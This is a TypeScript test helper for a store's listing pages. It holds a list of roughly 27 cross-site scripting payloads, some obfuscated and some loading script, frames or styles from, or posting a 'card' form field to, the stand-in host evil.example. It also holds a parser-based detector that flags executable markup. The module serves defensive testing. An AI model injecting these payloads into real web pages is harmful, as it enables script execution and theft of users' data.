// Hostile markup for the listing tests, and what counts as executable in a served page: the two halves of every
// "nothing runs" assertion (store pages now; the listing preview can take the same). The page is parsed with
// htmlparser2 (sanitize-html's own parser), so a test sees elements and attributes, not a regex's guess at them.
import { DomUtils, parseDocument } from 'htmlparser2';

/** Each tries a different way to run script, load a frame, leave the page or restyle it into doing so. */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href=" java\tscript:alert(1)">click</a>',
  '<svg onload=alert(1)><circle r="5"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="https://evil.example/x.swf">',
  '<div style="background:url(javascript:alert(1))">css url</div>',
  '<div style="width: expression(alert(1))">css expression</div>',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="card"><button formaction="javascript:alert(1)">Pay</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><script>alert(1)</script>",
  '<details open ontoggle=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<p title="</p><script>alert(1)</script>">attribute breakout</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
];

/** Elements a listing must never bring into a page (the page's own head holds its charset, viewport and one style). */
const FORBIDDEN_ELEMENTS = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'form', 'input', 'button', 'link', 'svg', 'math', 'noscript', 'template']);
/** Attributes whose value the browser follows or loads. */
const URL_ATTRIBUTES = new Set(['href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'cite']);

/** What a browser would read as a URL's scheme: entities already decoded by the parser; spaces and controls dropped. */
const schemeOf = (value: string): string => [...value].filter((character) => character > ' ').join('').toLowerCase();

/** Every way the page could run something or go somewhere it should not, in words; empty when it is clean. */
export function executableMarkup(html: string): string[] {
  const document = parseDocument(html, { decodeEntities: true, lowerCaseAttributeNames: true, lowerCaseTags: true });
  const problems: string[] = [];
  const elements = DomUtils.findAll(() => true, document.children);
  for (const element of elements) {
    const name = element.name;
    if (FORBIDDEN_ELEMENTS.has(name)) problems.push(`<${name}> element`);
    if (name === 'meta' && !('charset' in element.attribs) && element.attribs.name !== 'viewport') problems.push(`<meta ${JSON.stringify(element.attribs)}>`);
    for (const [attribute, value] of Object.entries(element.attribs)) {
      if (attribute.startsWith('on')) problems.push(`${attribute} on <${name}>`);
      const scheme = schemeOf(value);
      if (URL_ATTRIBUTES.has(attribute) && /^(?:javascript|vbscript|data):/.test(scheme)) problems.push(`${attribute}=${value} on <${name}>`);
      if (attribute !== 'href' && URL_ATTRIBUTES.has(attribute) && /^(?:https?:)?\/\//.test(scheme)) problems.push(`${attribute} loads from another site on <${name}>`);
      if (attribute === 'style' && /url\(|expression\(|@import|javascript:/.test(scheme)) problems.push(`style ${value} on <${name}>`);
    }
  }
  const styles = elements.filter((element) => element.name === 'style');
  if (styles.length !== 1 || styles[0]?.parent?.type !== 'tag' || styles[0].parent.name !== 'head') problems.push(`${styles.length} <style> elements`);
  return problems;
}

/** The text of the first element named `tag`, as a reader sees it (entities decoded). */
export function textOf(html: string, tag: string): string | undefined {
  const document = parseDocument(html, { decodeEntities: true });
  const element = DomUtils.findOne((candidate) => candidate.name === tag, document.children);
  return element === null ? undefined : DomUtils.textContent(element);
}

/** The elements named `tag`, with their attributes. */
export function elementsOf(html: string, tag: string): Record<string, string>[] {
  const document = parseDocument(html, { decodeEntities: true });
  return DomUtils.findAll((candidate) => candidate.name === tag, document.children).map((element) => element.attribs);
}
